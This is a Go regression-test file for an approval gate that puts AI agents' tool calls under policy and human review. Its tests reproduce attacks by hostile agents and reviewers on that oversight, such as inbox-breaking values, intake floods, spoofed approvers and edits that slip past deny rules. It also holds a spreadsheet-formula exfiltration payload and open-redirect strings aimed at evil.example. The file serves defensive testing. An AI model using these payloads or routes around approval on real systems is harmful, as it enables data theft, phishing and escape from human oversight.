package tests

// Attacks found by an adversarial review of the trust boundary (SPEC §6),
// each run through the public surfaces with real credentials against the
// production layout: every one of them worked before its fix.

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"math"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/structpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	airlockv1 "github.com/airlock-gate/airlock/proto/airlock/v1"
	airlock "github.com/airlock-gate/airlock/sdk"
	"github.com/airlock-gate/airlock/services/shared/natsauth"
	"github.com/airlock-gate/airlock/services/shared/policyapi"
	"github.com/airlock-gate/airlock/services/shared/seal"
	"github.com/airlock-gate/airlock/services/shared/subject"
	"github.com/airlock-gate/airlock/services/shared/testenv"
)

// publishRaw publishes a hand-built protobuf request as agent h, the way any
// agent that does not use the Go SDK may.
func (h *hostile) publishRaw(call *airlockv1.ToolCall) {
	h.t.Helper()
	ev := &airlockv1.Event{Body: &airlockv1.Event_Requested{Requested: &airlockv1.Requested{Call: call}}}
	data, err := proto.Marshal(ev)
	if err != nil {
		h.t.Fatal(err)
	}
	js, err := jetstream.New(h.nc)
	if err != nil {
		h.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := js.Publish(ctx, "airlock.req."+h.agent+"."+call.CallId, data); err != nil {
		h.t.Fatalf("agent %s could not publish its own request: %v", h.agent, err)
	}
}

func writeArgs(path, content string) *structpb.Struct {
	return &structpb.Struct{Fields: map[string]*structpb.Value{
		"path": structpb.NewStringValue(path), "content": structpb.NewStringValue(content)}}
}

// An agent chooses every field of its request, not only the arguments: NaN
// in annotations, a protobuf Value of no kind or a created_at outside the
// Timestamp range once reached the approval record, and from then on the
// approval service could not encode any list containing it — every
// reviewer's inbox failed. Such a request is refused at intake with an
// `invalid` event that says why, and the inbox keeps working.
func TestAValueJSONCannotCarryIsRefusedAndEveryInboxStillWorks(t *testing.T) {
	p := startProdLayout(t, "bot", "evil1", "evil2", "evil3")
	url := p.nats.Server.URL()
	bot := connectAgent(t, p.nats.CredentialFile("bot"), url)
	api := p.frontend(t)
	_, adminJS := p.nats.Connect(natsauth.RoleAdmin)

	victim := bot.mustSubmit(airlock.Call{ID: "victim", Tool: writeTool, Args: map[string]any{"path": "v.txt", "content": "bot's"}})
	waitApproval(t, api, "bot", victim, 1, pendingState)

	nanAnnotations := &structpb.Struct{Fields: map[string]*structpb.Value{"readOnlyHint": structpb.NewNumberValue(math.NaN())}}
	noKind := writeArgs("n.txt", "x")
	noKind.Fields["extra"] = &structpb.Value{}
	attacks := []struct {
		agent, why string
		call       *airlockv1.ToolCall
	}{
		{"evil1", "annotation /readOnlyHint is not a finite number", &airlockv1.ToolCall{CallId: "nan", Server: "demo", Tool: "write_file", Arguments: writeArgs("n.txt", "x"), Annotations: nanAnnotations}},
		{"evil2", "argument /extra has no value", &airlockv1.ToolCall{CallId: "nokind", Server: "demo", Tool: "write_file", Arguments: noKind}},
		{"evil3", "created_at is not a valid time", &airlockv1.ToolCall{CallId: "time", Server: "demo", Tool: "write_file", Arguments: writeArgs("n.txt", "x"), CreatedAt: &timestamppb.Timestamp{Seconds: math.MaxInt64 / 2}}},
	}
	for _, a := range attacks {
		connectAgent(t, p.nats.CredentialFile(a.agent), url).publishRaw(a.call)
		ev := testenv.WaitForEvent(t, adminJS, subject.OfCall(a.agent, a.call.CallId), subject.Invalid, 20*time.Second)
		if got := ev.GetInvalid().GetReason(); !strings.Contains(got, a.why) {
			t.Errorf("%s's request was refused with %q, want a reason saying %q", a.agent, got, a.why)
		}
		if types := testenv.SubjectTypes(t, adminJS, subject.OfCall(a.agent, a.call.CallId)); strings.Join(types, ",") != subject.Invalid {
			t.Errorf("%s's call has events %v, want only invalid", a.agent, types)
		}
	}

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	resp, err := api.List(ctx, &airlockv1.ListRequest{States: []airlockv1.ApprovalState{pendingState}})
	if err != nil {
		t.Fatalf("the reviewers' inbox is broken: %v", err)
	}
	found := false
	for _, r := range resp.GetRecords() {
		found = found || r.GetCall().GetCallId() == victim
	}
	if !found {
		t.Fatalf("bot's pending call is not in the inbox")
	}
}

// putRule changes the policy as an admin would through the console.
func (p *prodLayout) putRule(t *testing.T, rule *airlockv1.PolicyRule) {
	t.Helper()
	nc, _ := p.nats.Connect(natsauth.RoleConsole)
	k, err := seal.ParseHex(p.nats.Config.Security.FrontendKey)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := policyapi.New(nc, k, "console").PutRule(ctx, rule, reviewer("admin")); err != nil {
		t.Fatal(err)
	}
}

// waitAction waits until the policy in force decides call with action.
func (p *prodLayout) waitAction(t *testing.T, call *airlockv1.ToolCall, action airlockv1.Action, ruleID string) {
	t.Helper()
	nc, _ := p.nats.Connect(natsauth.RoleConsole)
	testenv.Eventually(t, 20*time.Second, "rule "+ruleID+" to decide "+action.String(), func() bool {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		d, err := policyapi.New(nc, seal.Key{}, "").Eval(ctx, call)
		return err == nil && d.GetAction() == action && d.GetRuleId() == ruleID
	})
}

// Self-confirmation: a rule whose approvers are ["requester"] lets only the
// verified person the call acts for decide. The directory once also matched
// the word as a plain principal name, so whoever was called "requester" (a
// console user, a Slack mapping) decided every such call of every agent.
func TestAPrincipalNamedRequesterConfirmsNobodysCalls(t *testing.T) {
	p := startProdLayout(t, "bot")
	url := p.nats.Server.URL()
	bot := connectAgent(t, p.nats.CredentialFile("bot"), url)
	api := p.frontend(t)
	p.putRule(t, &airlockv1.PolicyRule{Id: "self-confirm", Priority: 1, Server: "demo", Tool: "write_file",
		Effect: "ask", Approvers: []string{"requester"}})
	var id string
	testenv.Eventually(t, 20*time.Second, "the self-confirmation rule to be in force", func() bool {
		id = bot.mustSubmit(airlock.Call{Tool: writeTool, OnBehalfOf: "carol", Args: map[string]any{"path": "s.txt", "content": "x"}})
		rec := waitApproval(t, api, "bot", id, 1, pendingState)
		return rec.GetDecision().GetRuleId() == "self-confirm"
	})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	r, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "bot", CallId: id, Revision: 1, Kind: approveKind, Principal: reviewer("requester")})
	if err == nil && r.GetChanged() {
		t.Fatalf("a principal named \"requester\" approved carol's self-confirmation call: %s", r.GetMessage())
	}
}

// Ingress once measured a request by the bytes the agent sent, but airlock
// stores it as protobuf, which can be larger ("1," is 2 bytes of JSON and 11
// of protobuf): a request under limits.max_request_bytes whose `requested`
// event was over the stream's max_msg_size could never be recorded, was
// retried forever and held the policy's workers — no agent's call was
// decided. It is refused with a reason, leaves the intake, and other calls
// flow.
func TestARequestTooLargeToRecordIsRefusedAndLeavesTheIntake(t *testing.T) {
	p := startProdLayout(t, "bot", "evil")
	url := p.nats.Server.URL()
	bot := connectAgent(t, p.nats.CredentialFile("bot"), url)
	evil := connectAgent(t, p.nats.CredentialFile("evil"), url)
	_, adminJS := p.nats.Connect(natsauth.RoleAdmin)
	js, err := jetstream.New(evil.nc)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	body := `{"requested":{"call":{"callId":"blowup","tool":"demo__echo","arguments":{"a":[` + strings.Repeat("1,", 125000) + `1]}}}}`
	if len(body) > p.nats.Config.Limits.MaxRequestBytes {
		t.Fatalf("setup: %d bytes is over the request limit", len(body))
	}
	m := nats.NewMsg("airlock.req.evil.blowup")
	m.Header.Set("Content-Type", "application/json")
	m.Data = []byte(body)
	if _, err := js.PublishMsg(ctx, m); err != nil {
		t.Fatal(err)
	}
	actx, acancel := context.WithTimeout(ctx, 30*time.Second)
	defer acancel()
	out, err := evil.client.Await(actx, "blowup")
	if out.Status != airlock.StatusInvalid || !strings.Contains(out.Reason, "as airlock stores it") {
		t.Fatalf("the request ended %q (%q, %v), want invalid saying it is too large as stored", out.Status, out.Reason, err)
	}
	testenv.Eventually(t, 10*time.Second, "the intake to be empty", func() bool {
		s, err := adminJS.Stream(ctx, requestStream)
		return err == nil && s.CachedInfo().State.Msgs == 0
	})
	if o := bot.await(bot.mustSubmit(airlock.Call{Tool: "demo__echo", Args: map[string]any{"text": "hi"}}), 1); !o.Completed() {
		t.Fatalf("bot's call: %+v", o)
	}
}

// One agent flooding the intake once delayed every other agent's calls for
// as long as the flood lasted, and a longer flood filled the intake so that
// everyone's submit was refused. The intake stores each agent's requests
// under its own subject with a bounded share (intake.max_pending_per_agent):
// the flood's excess is refused at the server, the flooding agent never
// holds more than its share, and another agent's call completes while the
// flood goes on.
func TestOneAgentsFloodNeitherFillsTheIntakeNorHoldsUpAnotherAgent(t *testing.T) {
	p := startProdLayout(t, "bot", "evil")
	url := p.nats.Server.URL()
	bot := connectAgent(t, p.nats.CredentialFile("bot"), url)
	evil := connectAgent(t, p.nats.CredentialFile("evil"), url)
	_, adminJS := p.nats.Connect(natsauth.RoleAdmin)
	share := uint64(p.nats.Config.Intake.MaxPendingPerAgent)

	// An ack that never arrives (thousands of publishes in flight on one
	// connection) ends after a timeout: without one, PublishAsyncComplete
	// waited for it for ever (a fresh-clone CI hung here for 13 minutes).
	js, err := jetstream.New(evil.nc, jetstream.WithPublishAsyncMaxPending(4000), jetstream.WithPublishAsyncTimeout(5*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	var (
		flooding  = make(chan struct{})
		done      = make(chan struct{})
		published atomic.Int64
		quotaHits atomic.Int64
		maxHeld   atomic.Uint64
	)
	go func() {
		defer close(done)
		for n := 0; ; n++ {
			select {
			case <-flooding:
				<-js.PublishAsyncComplete()
				return
			default:
			}
			ack, err := js.PublishAsync(fmt.Sprintf("airlock.req.evil.f%d", n), []byte("junk"))
			if err != nil {
				time.Sleep(time.Millisecond)
				continue
			}
			published.Add(1)
			go func() {
				select {
				case err := <-ack.Err():
					if strings.Contains(err.Error(), "maximum messages per subject") {
						quotaHits.Add(1)
					}
				case <-ack.Ok():
				}
			}()
		}
	}()
	// Watch what evil holds in the intake while bot works.
	stopWatch := make(chan struct{})
	watched := make(chan struct{})
	go func() {
		defer close(watched)
		for {
			select {
			case <-stopWatch:
				return
			case <-time.After(50 * time.Millisecond):
			}
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			s, err := adminJS.Stream(ctx, requestStream)
			var info *jetstream.StreamInfo
			if err == nil {
				info, err = s.Info(ctx, jetstream.WithSubjectFilter("airlock.req.evil"))
			}
			cancel()
			if err == nil {
				held := info.State.Subjects["airlock.req.evil"]
				for cur := maxHeld.Load(); held > cur && !maxHeld.CompareAndSwap(cur, held); cur = maxHeld.Load() {
				}
			}
		}
	}()
	testenv.Eventually(t, 20*time.Second, "the flood to reach evil's share of the intake", func() bool { return quotaHits.Load() > 0 })

	out := bot.await(bot.mustSubmit(airlock.Call{Tool: "demo__echo", Args: map[string]any{"text": "during the flood"}}), 1)
	select {
	case <-done:
		t.Fatal("the flood stopped before bot's call ended")
	default:
	}
	close(flooding)
	<-done
	close(stopWatch)
	<-watched
	if !out.Completed() {
		t.Fatalf("bot's call during the flood ended %+v", out)
	}
	t.Logf("evil published %d junk requests, %d refused over its share; it held at most %d in the intake", published.Load(), quotaHits.Load(), maxHeld.Load())
	if maxHeld.Load() == 0 {
		t.Fatal("the intake was never seen holding any of evil's requests: the flood was not measured")
	}
	if held := maxHeld.Load(); held > share {
		t.Fatalf("evil held %d requests in the intake, over its share of %d", held, share)
	}
}

// SPEC §6: every value an agent wrote is neutralised in CSV exports. The
// reason an agent gives when it cancels its own call was written to the
// audit export's reason column as is, so a spreadsheet opening the export
// ran it as a formula.
func TestTheCSVExportNeverRunsAnAgentsFormula(t *testing.T) {
	dev := startDev(t, t.TempDir(), 0, "")
	bot := dev.Agent(t, "bot")
	token := adminToken(t, dev)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	id := mustSubmit(t, bot, airlock.Call{Tool: writeTool, Args: map[string]any{"path": "f.txt", "content": "x"}})
	waitPending(t, dev, token, id)
	formula := `=HYPERLINK("https://evil.example/?d="&A2,"details")`
	if err := bot.Cancel(ctx, id, formula); err != nil {
		t.Fatal(err)
	}
	var rows [][]string
	testenv.Eventually(t, 20*time.Second, "the cancel in the export", func() bool {
		req, _ := http.NewRequest(http.MethodGet, dev.HTTPURL+"/audit/export?format=csv&call="+id, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		rows, err = csv.NewReader(resp.Body).ReadAll()
		return err == nil && strings.Contains(fmt.Sprint(rows), "canceled")
	})
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("the CSV export holds a cell a spreadsheet evaluates: %q", cell)
			}
		}
	}
}

// One agent's pending calls with large arguments (each under
// limits.max_request_bytes, together over what one NATS message carries)
// once made the approval service's list reply too large to send: every
// reviewer's inbox, history and REST list hung, for want of a deadline on
// the console's requests. A list carries abridged records (large arguments
// left out, with a preview) in pages that fit; every page answers, and the
// call's own page still shows the whole arguments.
func TestOneAgentsLargeCallsLeaveEveryReviewersInboxWorking(t *testing.T) {
	p := startProdLayout(t, "bot", "evil")
	url := p.nats.Server.URL()
	bot := connectAgent(t, p.nats.CredentialFile("bot"), url)
	evil := connectAgent(t, p.nats.CredentialFile("evil"), url)
	api := p.frontend(t)
	alice := p.signIn(t, "alice")

	victim := bot.mustSubmit(airlock.Call{ID: "victim", Tool: writeTool, Args: map[string]any{"path": "v.txt", "content": "bot's"}})
	waitApproval(t, api, "bot", victim, 1, pendingState)
	big := strings.Repeat("A", 240<<10) // under limits.max_request_bytes (256 KiB)
	const n = 40                        // 9.6 MB: over the 8 MiB an embedded server carries, and production's 1 MiB
	for i := range n {
		evil.mustSubmit(airlock.Call{ID: fmt.Sprintf("big%d", i), Tool: writeTool, Args: map[string]any{"path": "big.txt", "content": big}})
	}
	for i := range n {
		waitApproval(t, api, "evil", fmt.Sprintf("big%d", i), 1, pendingState)
	}
	// Some of them decided, so that the history lists large records too.
	for i := range 5 {
		if status, body := alice.api(http.MethodPost, fmt.Sprintf("/api/v1/approvals/evil/big%d/reject", i), `{"reason":"too large"}`); status != http.StatusOK {
			t.Fatalf("reject big%d: %d %s", i, status, body)
		}
	}

	var list struct {
		Records []struct {
			Call struct {
				AgentID   string         `json:"agent_id"`
				CallID    string         `json:"call_id"`
				Arguments map[string]any `json:"arguments"`
			} `json:"call"`
			Abridged         bool   `json:"abridged"`
			ArgumentsPreview string `json:"arguments_preview"`
		} `json:"records"`
	}
	testenv.Eventually(t, 30*time.Second, "the REST list to hold every pending call", func() bool {
		status, body := alice.api(http.MethodGet, "/api/v1/approvals?limit=500", "")
		if status != http.StatusOK {
			t.Fatalf("the REST list of pending calls: %d %s", status, body)
		}
		list.Records = nil
		if err := json.Unmarshal([]byte(body), &list); err != nil {
			t.Fatal(err)
		}
		return len(list.Records) == n-5+1
	})
	for _, r := range list.Records {
		switch {
		case r.Call.CallID == victim && (r.Abridged || r.Call.Arguments["content"] != "bot's"):
			t.Errorf("bot's small call was listed abridged: %+v", r)
		case r.Call.AgentID == "evil" && (!r.Abridged || r.Call.Arguments != nil || !strings.HasPrefix(r.ArgumentsPreview, `{"content":"AAAA`)):
			t.Errorf("a large call was listed whole: %s/%s abridged=%v", r.Call.AgentID, r.Call.CallID, r.Abridged)
		}
	}
	pages := []struct{ path, want string }{
		{"/", `href="/calls/bot/victim"`},
		{"/history", `href="/calls/evil/big0"`},
		{"/calls/evil/big7", big},
	}
	for _, pg := range pages {
		start := time.Now()
		status, body := alice.page(pg.path)
		if status != http.StatusOK || !strings.Contains(body, pg.want) {
			t.Errorf("%s answered %d after %s without %.60q", pg.path, status, time.Since(start).Round(time.Millisecond), pg.want)
		}
	}
}

// "Approve all of this thread" once counted a vote for the record's
// current arguments, whatever the reviewer had been shown: with a quorum
// of two, after alice edited a call, bob's thread approval approved her
// edit unseen. The preview lists each call with the digest of the
// arguments shown and the approval carries it: a call edited since is not
// approved, by the console's form or by the REST API.
func TestAThreadApprovalCountsOnlyForTheArgumentsTheReviewerWasShown(t *testing.T) {
	p := startProdLayout(t, "bot")
	bot := connectAgent(t, p.nats.CredentialFile("bot"), p.nats.Server.URL())
	api := p.frontend(t)
	alice, bob, root := p.signIn(t, "alice"), p.signIn(t, "bob"), p.signIn(t, "root")
	if status, body := root.api(http.MethodPost, "/api/v1/rules", `{"id":"two-eyes","priority":1,"server":"demo","tool":"write_file","args":{"/path":"q2/**"},"effect":"ask","quorum":2,"approvers":["group:reviewers"]}`); status != http.StatusOK {
		t.Fatalf("put rule: %d %s", status, body)
	}
	var id, thread string
	testenv.Eventually(t, 20*time.Second, "the quorum rule to be in force", func() bool {
		// A thread of its own for each try: a call decided before the rule
		// was in force stays out of it.
		thread = "T" + strconv.Itoa(int(time.Now().UnixNano()))
		id = bot.mustSubmit(airlock.Call{Thread: thread, Tool: writeTool, Args: map[string]any{"path": "q2/report.txt", "content": "the agent's"}})
		return waitApproval(t, api, "bot", id, 1, pendingState).GetDecision().GetQuorum() == 2
	})
	other := bot.mustSubmit(airlock.Call{Thread: thread, Tool: writeTool, Args: map[string]any{"path": "q2/other.txt", "content": "untouched"}})
	otherDigest := waitApproval(t, api, "bot", other, 1, pendingState).GetArgumentsDigest()
	// What bob is shown: the thread preview on the call's page.
	_, page := bob.page("/calls/bot/" + id)
	var shown []string
	for _, m := range regexp.MustCompile(`name="call" value="([^"]+)"`).FindAllStringSubmatch(page, -1) {
		shown = append(shown, html.UnescapeString(m[1]))
	}
	csrf := csrfRE.FindStringSubmatch(page)
	before := waitApproval(t, api, "bot", id, 1, pendingState).GetArgumentsDigest()
	if want := []string{id + ".1." + before, other + ".1." + otherDigest}; !slices.Equal(slices.Sorted(slices.Values(shown)), slices.Sorted(slices.Values(want))) || csrf == nil {
		t.Fatalf("the thread preview lists %v, want %v", shown, want)
	}

	if status, body := alice.api(http.MethodPost, "/api/v1/approvals/bot/"+id+"/approve",
		`{"revision":1,"arguments":{"path":"q2/report.txt","content":"alice's edit bob never saw"}}`); status != http.StatusOK {
		t.Fatalf("alice's edit: %d %s", status, body)
	}
	status, body := bob.post("/threads/approve", url.Values{"_csrf": {html.UnescapeString(csrf[1])}, "agent": {"bot"}, "thread": {thread}, "from": {id}, "call": shown})
	if status != http.StatusSeeOther {
		t.Fatalf("bob's thread form: %d %s", status, body)
	}
	// The call nobody edited got bob's vote; the edited one did not.
	if votes := waitApproval(t, api, "bot", other, 1, pendingState).GetVotes(); len(votes) != 1 || votes[0].GetBy().GetId() != "bob" {
		t.Fatalf("votes on the unedited call: %v", votes)
	}
	approveThread := "/api/v1/threads/bot/" + thread + "/approve"
	body = fmt.Sprintf(`{"calls":[{"call_id":%q,"revision":1,"arguments_digest":%q}]}`, id, before)
	if status, body := bob.api(http.MethodPost, approveThread, body); status != http.StatusOK || !strings.Contains(body, "edited") {
		t.Fatalf("bob's REST thread approval of what he was shown: %d %s", status, body)
	}
	if status, _ := bob.api(http.MethodPost, approveThread, fmt.Sprintf(`{"calls":[{"call_id":%q,"revision":1}]}`, id)); status != http.StatusBadRequest {
		t.Fatalf("a thread approval naming no digest: %d", status)
	}
	// Both answers above are the approval service's own: what they did is
	// in the record already.
	rec := waitApproval(t, api, "bot", id, 1, pendingState)
	if len(rec.GetVotes()) != 1 || rec.GetVotes()[0].GetBy().GetId() != "alice" {
		t.Fatalf("bob's thread approvals counted for arguments he was never shown: votes %v", rec.GetVotes())
	}
	// Shown the edited arguments, bob's thread approval counts.
	body = fmt.Sprintf(`{"calls":[{"call_id":%q,"revision":1,"arguments_digest":%q}]}`, id, rec.GetArgumentsDigest())
	if status, body := bob.api(http.MethodPost, approveThread, body); status != http.StatusOK || !strings.Contains(body, `"changed":true`) {
		t.Fatalf("bob's thread approval of the edited arguments: %d %s", status, body)
	}
	if out := bot.await(id, 1); out.Status != airlock.StatusCompleted {
		t.Fatalf("the call ended %s", out.Status)
	}
	if got := readFileString(t, filepath.Join(filepath.Dir(p.cfgFile), "sandbox", "q2", "report.txt")); got != "alice's edit bob never saw" {
		t.Fatalf("the file holds %q", got)
	}
}

// After signing in the console redirects to next=; a browser drops tabs
// and newlines from a URL, so "/\t/evil.example" once became
// "//evil.example", another site. The redirect stays on the console.
func TestTheSignInRedirectNeverLeavesTheConsole(t *testing.T) {
	dev := startDev(t, t.TempDir(), 0, "")
	user, password := adminLogin(t, dev)
	for _, next := range []string{"/\t/evil.example/phish", "//evil.example", "/\\evil.example", "https://evil.example/", "/%2F/evil.example", "/\n/evil.example"} {
		t.Run(strconv.Quote(next), func(t *testing.T) {
			jar, _ := cookiejar.New(nil)
			client := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
			resp, err := client.Get(dev.HTTPURL + "/login")
			if err != nil {
				t.Fatal(err)
			}
			page, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			m := csrfRE.FindSubmatch(page)
			if m == nil {
				t.Fatalf("no sign-in form token:\n%s", page)
			}
			form := url.Values{"_csrf": {string(m[1])}, "user": {user}, "password": {password}, "next": {next}}
			req, _ := http.NewRequest(http.MethodPost, dev.HTTPURL+"/login", strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			base, _ := url.Parse(dev.HTTPURL + "/login")
			for _, c := range jar.Cookies(base) {
				req.AddCookie(c)
			}
			// The transport itself: Go's client refuses to parse such a Location.
			resp, err = http.DefaultTransport.RoundTrip(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			loc := resp.Header.Get("Location")
			// Resolve it as a browser does.
			target, err := base.Parse(strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(loc))
			if resp.StatusCode != http.StatusSeeOther || err != nil || target.Host != base.Host {
				t.Fatalf("after signing in the console sends the browser to %q (Location %q, status %d)", target, loc, resp.StatusCode)
			}
		})
	}
}

// A reviewer may edit a call's arguments and approve. The approval service
// once never asked the policy about the edited arguments, so one reviewer
// could run arguments the policy denies outright (deny wins over ask and
// allow, SPEC §4). The edit is decided by the policy again: a deny refuses
// it, recorded as an unauthorized attempt, nothing runs, and the call
// still waits for a decision.
func TestAnEditThePolicyDeniesIsRefusedAndNothingRuns(t *testing.T) {
	p := startProdLayout(t, "bot")
	bot := connectAgent(t, p.nats.CredentialFile("bot"), p.nats.Server.URL())
	api := p.frontend(t)
	_, adminJS := p.nats.Connect(natsauth.RoleAdmin)
	alice, root := p.signIn(t, "alice"), p.signIn(t, "root")
	if status, body := root.api(http.MethodPost, "/api/v1/rules", `{"id":"no-secrets","priority":1,"server":"demo","tool":"write_file","args":{"/path":"secret/**"},"effect":"deny","reason":"nothing is ever written under secret/"}`); status != http.StatusOK {
		t.Fatalf("put rule: %d %s", status, body)
	}
	p.waitAction(t, &airlockv1.ToolCall{AgentId: "bot", CallId: "probe", Server: "demo", Tool: "write_file",
		Arguments: writeArgs("secret/owned.txt", "x")}, airlockv1.Action_ACTION_DENY, "no-secrets")

	id := bot.mustSubmit(airlock.Call{ID: "harmless", Tool: writeTool, Args: map[string]any{"path": "notes.txt", "content": "x"}})
	waitApproval(t, api, "bot", id, 1, pendingState)
	status, body := alice.api(http.MethodPost, "/api/v1/approvals/bot/"+id+"/approve",
		`{"revision":1,"arguments":{"path":"secret/owned.txt","content":"written despite the deny rule"}}`)
	if status != http.StatusForbidden || !strings.Contains(body, "no-secrets") {
		t.Fatalf("an edit the policy denies: %d %s", status, body)
	}
	attempt := testenv.WaitForEvent(t, adminJS, subject.OfCall("bot", id), subject.UnauthorizedAttempt, 20*time.Second)
	if a := attempt.GetUnauthorizedAttempt(); a.GetAction() != "approve_edited" || attempt.GetActor().GetId() != "alice" {
		t.Fatalf("the refused edit was recorded as %v by %v", a, attempt.GetActor())
	}
	rec := waitApproval(t, api, "bot", id, 1, pendingState)
	if rec.GetEditedArguments() != nil || len(rec.GetVotes()) != 0 {
		t.Fatalf("the refused edit changed the record: %v", rec)
	}
	if status, body := alice.api(http.MethodPost, "/api/v1/approvals/bot/"+id+"/reject", `{"revision":1,"reason":"no"}`); status != http.StatusOK {
		t.Fatalf("reject: %d %s", status, body)
	}
	if out := bot.await(id, 1); out.Status == airlock.StatusCompleted {
		t.Fatalf("the call ran: %s", out.Status)
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(p.cfgFile), "sandbox", "secret", "owned.txt")); err == nil {
		t.Fatal("secret/owned.txt exists: a reviewer's edit ran arguments the policy denies")
	}
}

// A gate-only call (agent_runs: the agent runs the tool itself once airlock
// allows it) cannot be approved with edited arguments: nothing would run
// them, and the agent would run the ones it asked for, unreviewed.
func TestAnEditOfAGateOnlyCallIsRefused(t *testing.T) {
	p := startProdLayout(t, "bot")
	bot := connectAgent(t, p.nats.CredentialFile("bot"), p.nats.Server.URL())
	api := p.frontend(t)
	id := bot.mustSubmit(airlock.Call{ID: "gate", AgentRuns: true, Tool: writeTool, Args: map[string]any{"path": "rm-rf.txt", "content": "x"}})
	waitApproval(t, api, "bot", id, 1, pendingState)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	edited, _ := structpb.NewStruct(map[string]any{"path": "safe.txt", "content": "x"})
	r, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "bot", CallId: id, Revision: 1, Kind: approveKind,
		Principal: reviewer("alice"), EditedArguments: edited})
	if err == nil && r.GetChanged() {
		t.Fatalf("an edit of a gate-only call was accepted (%s): the agent would run its own arguments", r.GetMessage())
	}
	if err == nil || !strings.Contains(err.Error(), "gate-only") {
		t.Fatalf("the edit was not refused as an edit of a gate-only call: %v %v", r, err)
	}
	// Approved as asked, the call ends at its decision for the agent.
	if _, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "bot", CallId: id, Revision: 1, Kind: approveKind, Principal: reviewer("alice")}); err != nil {
		t.Fatal(err)
	}
	if out := bot.await(id, 1); out.Status != airlock.StatusApproved {
		t.Fatalf("the gate-only call ended %+v, want approved", out)
	}
}

// Self-confirmation (seed 002): a rule naming the requester lets only the
// verified person a call acts for confirm it. That person may remember the
// decision as a standing grant, but the grant allows only calls made for
// them: it never confirms a call of the same agent made for someone else.
func TestASelfConfirmedGrantNeverConfirmsSomeoneElsesCall(t *testing.T) {
	p := startProdLayout(t, "bot")
	api := p.frontend(t)
	p.putRule(t, &airlockv1.PolicyRule{Id: "self-confirm", Priority: 1, Server: "demo", Tool: "write_file",
		Effect: "ask", Approvers: []string{"requester"}})
	p.waitAction(t, &airlockv1.ToolCall{AgentId: "ci", CallId: "probe", Server: "demo", Tool: "write_file", Arguments: writeArgs("x", "y")}, airlockv1.Action_ACTION_ASK, "self-confirm")
	// A shared agent "ci" whose calls a front-end (the console's REST API,
	// the gateway) authenticated and sealed for the person each acts for.
	nc, _ := p.nats.Connect(natsauth.RoleConsole)
	k, err := seal.ParseHex(p.nats.Config.Security.FrontendKey)
	if err != nil {
		t.Fatal(err)
	}
	ci, err := airlock.New(nc, "ci", airlock.WithRequestSeal(func(m *nats.Msg) { k.Request(m, "console", time.Now()) }))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	submit := func(id, person string) {
		t.Helper()
		if _, err := ci.Submit(ctx, airlock.Call{ID: id, OnBehalfOf: person, Tool: writeTool, Args: map[string]any{"path": "shared.txt", "content": "x"}}); err != nil {
			t.Fatal(err)
		}
	}
	submit("alices", "alice")
	rec := waitApproval(t, api, "ci", "alices", 1, pendingState)
	if !rec.GetCall().GetOnBehalfOfVerified() || rec.GetDecision().GetRuleId() != "self-confirm" {
		t.Fatalf("setup: %v", rec)
	}
	if _, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "ci", CallId: "alices", Revision: 1, Kind: approveKind, Principal: reviewer("alice")}); err != nil {
		t.Fatal(err)
	}
	g, err := api.CreateGrant(ctx, &airlockv1.CreateGrantRequest{FromAgentId: "ci", FromCallId: "alices", FromRevision: 1,
		By: reviewer("alice"), Grant: &airlockv1.StandingGrant{}})
	if err != nil {
		t.Fatalf("alice could not remember her own decision: %v", err)
	}
	if g.GetOnBehalfOf() != "alice" {
		t.Fatalf("alice's grant is not limited to her own calls: %v", g)
	}
	// The grant answers alice's next call (so it is live in the policy
	// service) ...
	testenv.Eventually(t, 20*time.Second, "alice's grant to answer her next call", func() bool {
		id := fmt.Sprintf("alices-%d", time.Now().UnixNano())
		submit(id, "alice")
		out, err := ci.AwaitRevision(ctx, id, 1)
		return err == nil && out.Status == airlock.StatusCompleted
	})
	// ... and never bob's, who must confirm his own.
	submit("bobs", "bob")
	bobs := waitApproval(t, api, "ci", "bobs", 1, pendingState)
	if bobs.GetDecision().GetGrantId() != "" {
		t.Fatalf("bob's call was matched by grant %s", bobs.GetDecision().GetGrantId())
	}
}

// An agent names the run_code script its raw request came from: a forged
// digest would file its call under another script's calls in the audit
// trail (auditors find every call a script made by its digest). Only the
// MCP gateway, which runs the scripts and seals its requests, vouches for
// a call's script; an agent's own is dropped before the call is recorded,
